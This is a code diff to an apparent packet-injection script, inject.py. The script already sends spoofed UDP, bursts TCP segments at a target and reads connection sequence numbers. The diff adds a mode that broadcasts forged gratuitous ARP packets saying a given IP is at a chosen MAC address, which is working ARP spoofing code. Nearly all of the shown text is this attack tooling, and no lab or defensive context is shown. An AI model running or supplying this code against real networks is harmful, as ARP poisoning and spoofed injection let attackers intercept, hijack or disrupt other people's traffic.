@@ -6,6 +6,8 @@
   (send and random take --rate PPS: segments a second at most, default 20000, so that a
   burst is not lost in the kernel's queues before it reaches what it attacks)
   inject.py udp SRC SPORT DST DPORT TEXT                        one UDP datagram from any source
+  inject.py garp IFACE IP MAC                                   a gratuitous ARP (request and reply)
+                                                                saying IP is at MAC, broadcast on IFACE
   inject.py next IFACE SRC SPORT DST DPORT [--timeout S]        prints seq + length of the next
                                                                 segment seen from SRC:SPORT to DST:DPORT
 
@@ -90,6 +92,15 @@ def main(argv: list) -> None:
         print(__doc__.strip())
         return
     mode = argv[1]
+    if mode == 'garp':
+        iface, addr, mac = argv[2], socket.inet_aton(argv[3]), bytes.fromhex(argv[4].replace(':', ''))
+        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+        s.bind((iface, 0))
+        for op in (1, 2):
+            arp = struct.pack('!HHBBH6s4s6s4s', 1, 0x0800, 6, 4, op, mac, addr, b'\xff' * 6 if op == 2 else b'\0' * 6, addr)
+            s.send(b'\xff' * 6 + mac + b'\x08\x06' + arp)
+        print(2)
+        return
     if mode == 'next':
         iface, src, sport, dst, dport = argv[2], argv[3], int(argv[4]), argv[5], int(argv[6])
         timeout = float(argv[argv.index('--timeout') + 1]) if '--timeout' in argv else 5.0
